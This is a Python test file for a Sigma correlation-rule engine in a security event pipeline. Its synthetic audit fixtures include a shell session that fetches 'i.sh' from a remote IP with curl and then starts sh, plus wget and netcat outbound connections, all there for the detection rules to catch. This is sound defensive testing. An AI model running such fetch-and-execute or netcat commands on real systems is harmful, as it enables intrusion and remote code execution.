"""Sigma correlation rules in the stream: the four types, group-by, windows, state across a restart."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from processors.detect.sigma import CorrelationState, SigmaEngine, load_sigma_rules
from streams.config import SecstreamConfig
from streams.graph import HostState, HostStates, Pipeline, RawLine

from .attack_corpus import AuditWriter, _connect_lines

RULES = Path(__file__).parent / "correlations"
EVENT_COUNT = "5f0c1d2e-0002-4a00-8000-000000000002"
VALUE_COUNT = "5f0c1d2e-0002-4a00-8000-000000000004"
TEMPORAL = "5f0c1d2e-0002-4a00-8000-000000000007"
ORDERED = "5f0c1d2e-0002-4a00-8000-000000000008"


@pytest.fixture(scope="module")
def engine() -> SigmaEngine:
    loaded = SigmaEngine.load([RULES])
    assert loaded.loaded.errors == []
    return loaded


def _docs(lines: list[str]) -> list[dict[str, Any]]:
    pipeline = Pipeline(SecstreamConfig())
    states = HostStates()
    pending = pipeline.audit_lines((RawLine(line) for line in lines), states)
    pending.extend(pipeline.shutdown(states))
    return asyncio.run(pipeline.complete(pending, states)).events


def _session(writer: AuditWriter) -> None:
    """An interactive shell (pid 100) that starts curl and sh: siblings, no pipe on any command line."""
    writer.execve(["-bash"], pid=100, ppid=99, exe="/usr/bin/bash", uid=1000)
    writer.execve(["curl", "-fsSL", "http://203.0.113.9/i.sh"], pid=101, ppid=100, uid=1000)
    writer.execve(["sh"], pid=102, ppid=100, exe="/usr/bin/sh", uid=1000)


def _fired(engine: SigmaEngine, docs: list[dict[str, Any]], state: CorrelationState) -> list[dict[str, Any]]:
    return [alert for doc in docs for alert in engine.match(doc, state)]


def test_temporal_joins_siblings_through_the_process_tree(engine: SigmaEngine) -> None:
    writer = AuditWriter("h1")
    _session(writer)
    alerts = _fired(engine, _docs(writer.lines), CorrelationState())
    temporal = [a for a in alerts if a["rule"]["id"] == TEMPORAL]
    assert len(temporal) == 1
    alert = temporal[0]
    assert len(alert["secstream"]["evidence"]["event_ids"]) == 2
    assert alert["secstream"]["sigma"]["correlation"]["type"] == "temporal"
    assert alert["threat"]["technique"]["subtechnique"]["id"] == ["T1059.004"]
    # generate is false: the downloader and shell rules raise nothing of their own
    assert not any(a["rule"]["name"] in ("Fixture downloader", "Fixture shell interpreter") for a in alerts)
    # in order shell-then-downloader did not happen (the interactive -bash is not a child of pid 100)
    assert not any(a["rule"]["id"] == ORDERED for a in alerts)


def test_temporal_ordered_needs_the_order(engine: SigmaEngine) -> None:
    writer = AuditWriter("h1")
    writer.execve(["-bash"], pid=100, ppid=99, exe="/usr/bin/bash", uid=1000)
    writer.execve(["sh", "-c", "true"], pid=101, ppid=100, exe="/usr/bin/sh", uid=1000)
    writer.execve(["wget", "http://x.test/a"], pid=102, ppid=100, uid=1000)
    alerts = _fired(engine, _docs(writer.lines), CorrelationState())
    assert [a["rule"]["id"] for a in alerts if a["rule"]["id"] in (ORDERED, TEMPORAL)] == [TEMPORAL, ORDERED]


def test_event_count_by_user_fires_once_per_window(engine: SigmaEngine) -> None:
    writer = AuditWriter("h1")
    for pid in range(200, 210):  # ten commands one second apart by uid 1000, and two by root
        writer.execve(["ls", str(pid)], pid=pid, ppid=150, uid=1000)
    writer.execve(["id"], pid=300, ppid=1, uid=0)
    writer.execve(["id"], pid=301, ppid=1, uid=0)
    alerts = [a for a in _fired(engine, _docs(writer.lines), CorrelationState()) if a["rule"]["id"] == EVENT_COUNT]
    assert len(alerts) == 2  # 4 + 4 commands (the window starts again after firing); root's 2 do not count
    assert all(a["secstream"]["sigma"]["correlation"]["group"] == {"User": "1000"} for a in alerts)
    assert all(len(a["secstream"]["evidence"]["event_ids"]) == 4 for a in alerts)


def test_event_count_window_is_the_timespan(engine: SigmaEngine) -> None:
    writer = AuditWriter("h1")
    for pid in range(200, 204):
        writer.execve(["ls"], pid=pid, ppid=150, uid=1000)
        writer.clock += 10  # 11 s apart: never four within 10 s
    alerts = _fired(engine, _docs(writer.lines), CorrelationState())
    assert not any(a["rule"]["id"] == EVENT_COUNT for a in alerts)


def test_value_count_counts_distinct_values(engine: SigmaEngine) -> None:
    writer = AuditWriter("h1")
    for port in (22, 22, 80, 22, 443):
        writer.lines.extend(_connect_lines(writer, "/usr/bin/nc", "203.0.113.9", port))
    alerts = _fired(engine, _docs(writer.lines), CorrelationState())
    fired = [a for a in alerts if a["rule"]["id"] == VALUE_COUNT]
    assert len(fired) == 1 and len(fired[0]["secstream"]["evidence"]["event_ids"]) == 5
    # generate is true: the base rule alerts too
    assert sum(a["rule"]["name"] == "Fixture outbound connection" for a in alerts) == 5


def test_state_survives_a_restart_without_losing_or_repeating_an_alert(engine: SigmaEngine) -> None:
    writer = AuditWriter("h1")
    for pid in range(200, 204):
        writer.execve(["ls"], pid=pid, ppid=150, uid=1000)
    docs = _docs(writer.lines)
    straight = [a for a in _fired(engine, docs, CorrelationState()) if a["rule"]["id"] == EVENT_COUNT]
    host = HostState()
    first = _fired(engine, docs[:2], Pipeline.stage_state(host, engine))
    snapshot = json.loads(json.dumps(host.durable_snapshot()))  # what the worker's changelog keeps
    assert snapshot["sigma"]["windows"]
    restored = Pipeline.stage_state(HostState.from_durable_snapshot(snapshot), engine)
    second = _fired(engine, docs[2:], restored)
    resumed = [a for a in first + second if a["rule"]["id"] == EVENT_COUNT]
    assert [a["event"]["id"] for a in resumed] == [a["event"]["id"] for a in straight]
    assert len(resumed) == 1


def test_bad_correlations_are_errors_naming_the_file(tmp_path: Path) -> None:
    (tmp_path / "c.yml").write_text(
        "title: dangling\ncorrelation:\n  type: event_count\n  rules: [nosuch]\n  timespan: 1m\n"
        "  condition: {gte: 2}\n---\n"
        "title: later\nname: base\nlogsource: {product: linux, category: process_creation}\n"
        "detection: {sel: {Image: x}, condition: sel}\n---\n"
        "title: lt\ncorrelation:\n  type: event_count\n  rules: [base]\n  timespan: 1m\n  condition: {lt: 2}\n"
    )
    loaded = load_sigma_rules([tmp_path])
    messages = sorted(str(error) for error in loaded.errors)
    assert len(messages) == 2 and all(m.startswith(str(tmp_path / "c.yml")) for m in messages)
    assert any("dangling" in m for m in messages) and any("window closes" in m for m in messages)
    assert [rule.title for rule in loaded.rules] == ["later"]
